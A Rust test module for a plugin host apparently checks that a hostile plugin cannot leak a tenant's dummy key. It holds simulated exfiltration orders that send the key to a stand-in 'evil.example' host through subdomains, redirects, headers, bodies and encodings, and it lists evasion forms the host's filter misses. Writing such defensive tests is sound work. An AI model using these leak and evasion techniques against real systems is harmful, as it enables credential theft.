//! Attacks with the tenant's key: a plugin that somehow got it, and responses that contain it.
//!
//! The plugin never has the key, so these tests pass it in an order. The host searches orders for the key, so it is
//! disguised: a ^ stands for a hyphen and a ` for a 2.

use bytes::Bytes;
use door_access_host::{CallError, Denial, ExchangeEnd, TransportError};

use super::attack::{Attack, End, hostile, last_end, limits, stopped};
use crate::stage::{KEY, KEY_IN_ORDERS, Stage};

/// WASI's `HTTP-request-denied` and `internal-error`.
const DENIED: &str = "error 15";
const WITHHELD: &str = "error 38";

/// The key in encodings that the host searches for.
const ENCODED: [(&str, &str); 5] = [
    ("hexadecimal", "736573616d652d6f70656e2d3132333435"),
    ("capital hexadecimal", "736573616D652D6F70656E2D3132333435"),
    ("percent-encoded", "%73%65%73%61%6d%65%2d%6f%70%65%6e%2d%31%32%33%34%35"),
    ("base64", "c2VzYW1lLW9wZW4tMTIzNDU="),
    ("base64 behind something", "TE9HSU4gc2VzYW1lLW9wZW4tMTIzNDU="),
];

pub(crate) fn attacks() -> Vec<Attack> {
    let mut attacks = outgoing();
    attacks.extend(kept());
    attacks.extend(answers());
    attacks.extend(not_searched_for());
    attacks
}

/// Disguised for an order.
fn disguised(text: &str) -> String {
    text.replace('-', "^").replace('2', "`")
}

/// Adds the check that no recording contains the key.
fn silent(attack: Attack) -> Attack {
    let Attack { afterwards, .. } = attack;
    Attack {
        afterwards: Box::new(move |stage, recording| {
            let told = format!("{recording:?}").to_ascii_lowercase();
            assert!(!told.contains(KEY), "{told}");
            afterwards(stage, recording);
        }),
        ..attack
    }
}

fn outgoing() -> Vec<Attack> {
    let key = KEY_IN_ORDERS;
    let request = |what: &str| format!("HP\nhttps\napi.example.com\n{what}");
    let mut attacks = vec![
        ("in the path", request(&format!("/{key}\n"))),
        ("in the query", request(&format!("/?q={key}\n"))),
        ("in a header's value", request(&format!("/\nx-note\na {key} b\n"))),
        ("in a header's name", request(&format!("/\nx-{key}\nb\n"))),
        ("in the body", request(&format!("/\n\n\n{{\"note\":\"{key}\"}}"))),
        ("in another origin's name", format!("HG\nhttps\n{key}.evil.example\n/\n")),
        (
            "in capitals in another origin's name",
            format!("HG\nhttps\n{}.evil.example\n/\n", key.to_uppercase()),
        ),
        ("in an authority that is none", format!("HG\nhttps\n{key}:x@evil.example\n/\n")),
        ("in the method", format!("n{key}\n\n")),
    ];
    attacks.extend(ENCODED.map(|(how, text)| (how, request(&format!("/\n\n\n{}", disguised(text))))));
    let sends = attacks.into_iter().map(|(tries, order)| {
        let attack = Attack::new("sends the key", tries, order, End::Says(DENIED));
        silent(attack.denied(|denial| matches!(denial, Denial::KeyInRequest(_))))
    });
    sends.collect()
}

fn kept() -> Vec<Attack> {
    let key = KEY_IN_ORDERS;
    let exposed = || stopped!(CallError::CredentialExposed(_));
    let nothing_stored =
        |stage: &Stage, _: &door_access_host::Recording| assert_eq!(stage.storage.entries(), []);
    let mut stores = vec![
        ("as a value", format!("pk\n{key}\n")),
        ("as a key", format!("p{key}\nx\n")),
        ("in a value", format!("pk\n{{\"a\":\"{key}\"}}\n")),
        ("as a key twice in one commit, which is not allowed", format!("5{key}\n")),
    ];
    stores.extend(ENCODED.map(|(how, text)| (how, format!("pk\n{}\n", disguised(text)))));
    let stores = stores.into_iter().map(move |(tries, order)| {
        silent(Attack::new("stores the key", tries, order, exposed()).afterwards(nothing_stored))
    });
    let mut logs = vec![("plain", format!("L{key}")), ("within a text", format!("Lusing {key} now"))];
    logs.extend(ENCODED.map(|(how, text)| (how, format!("L{}", disguised(text)))));
    let logs = logs.into_iter().map(|(tries, order)| {
        let attack = Attack::new("logs the key", tries, order.clone(), End::Says("logged"));
        silent(attack.afterwards(move |_, recording| {
            assert_eq!(recording.lines.len(), 1);
            assert!(recording.lines[0].message.contains("withheld"), "{:?}", recording.lines);
        }))
    });
    let panics = Attack::new(
        "panics with the key",
        "a panic's text",
        format!("P{key}"),
        stopped!(CallError::Trapped { panic: Some(panic), message } if !panic.contains(KEY) && !message.contains(KEY)),
    );
    let mut asks = vec![("storage and directory", format!("2{key}\n")), ("the caller", format!("E{key}"))];
    asks.extend(ENCODED.map(|(how, text)| (how, format!("E{}", disguised(text)))));
    let asks = asks
        .into_iter()
        .map(|(tries, order)| silent(Attack::new("asks or answers with the key", tries, order, exposed())));
    stores.chain(logs).chain(asks).chain([silent(panics)]).collect()
}

fn answers() -> Vec<Attack> {
    let get = "HG\nhttps\napi.example.com\n/\n";
    let echo = |tries, answer: fn(&str) -> http::Response<Bytes>, end: End, place: &'static str| {
        let attack = Attack::new("response with the key", tries, get, end).prepare(move |stage| {
            stage.wire.answer(move |request| {
                let sent = request.headers()["authorization"].to_str().unwrap().to_owned();
                Ok::<_, TransportError>(answer(&sent))
            });
        });
        silent(attack.afterwards(move |_, recording| {
            assert_eq!(last_end(recording), Some(&ExchangeEnd::Withheld(Denial::KeyInAnswer(place))));
        }))
    };
    vec![
        echo(
            "in its body",
            |sent| http::Response::new(Bytes::from(format!("echo {sent}"))),
            End::Says(WITHHELD),
            "body",
        ),
        echo(
            "in base64 in its body",
            |_| http::Response::new(Bytes::from_static(b"c2VzYW1lLW9wZW4tMTIzNDU=")),
            End::Says(WITHHELD),
            "body",
        ),
        echo(
            "behind 7 MB of other text",
            |sent| http::Response::new(Bytes::from("x".repeat(7 << 20) + sent)),
            End::Says(WITHHELD),
            "body",
        ),
        echo("in a header", |sent| with_header("x-echo", sent), End::Says(WITHHELD), "headers"),
        echo(
            "in a redirect",
            |sent| with_header("location", &format!("https://evil.example/?{sent}").replace(' ', "+")),
            End::Says(WITHHELD),
            "headers",
        ),
        echo("in a cookie", |sent| with_header("set-cookie", sent), End::Says(WITHHELD), "headers"),
        echo("as its encoding", |sent| with_header("content-encoding", sent), End::Says(WITHHELD), "headers"),
        echo("as a header's name", |_| with_header(KEY, "x"), End::Says(WITHHELD), "headers"),
    ]
}

fn with_header(name: &str, value: &str) -> http::Response<Bytes> {
    http::Response::builder().header(name, value).body(Bytes::new()).unwrap()
}

/// Forms that the host does not claim to find. A plugin that had the key could hide it; the protection is that it never
/// gets the key.
fn not_searched_for() -> Vec<Attack> {
    let key = KEY_IN_ORDERS;
    vec![
        Attack::new("not searched for", "the key in two log lines", format!("4{key}\n"), End::Says("")),
        Attack::new(
            "not searched for",
            "the key in capitals",
            format!("L{}", key.to_uppercase()),
            End::Says("logged"),
        ),
        Attack::new(
            "not searched for",
            "the key backwards",
            "L54321^nepo^emases".to_owned(),
            End::Says("logged"),
        ),
        Attack::new(
            "not searched for",
            "the key with blanks between",
            "Ls e s a m e ^ o p e n ^ 1 2 3 4 5".to_owned(),
            End::Says("logged"),
        ),
        Attack::new(
            "not searched for",
            "each letter by its number, as no JSON writer does",
            format!("L{}", KEY.bytes().map(|byte| format!("\\u00{byte:02x}")).collect::<String>()),
            End::Says("logged"),
        ),
        Attack::new(
            "not searched for",
            "base64 of its base64",
            "LYzJWellXMWxMVzl3Wlc0dE1USXpORFU9".to_owned(),
            End::Says("logged"),
        ),
    ]
}

#[tokio::test]
async fn a_key_in_the_settings_is_refused_before_the_plugin_sees_them() {
    let stage = hostile(limits()).await;
    for (how, text) in ENCODED.into_iter().chain([("plain", KEY)]) {
        let refused = stage.tenant.connect(text).await;
        assert_eq!(refused, Err(CallError::CredentialExposed("the settings".to_owned())), "{how}");
    }
    assert_eq!(stage.recorder.take().calls, []);
}
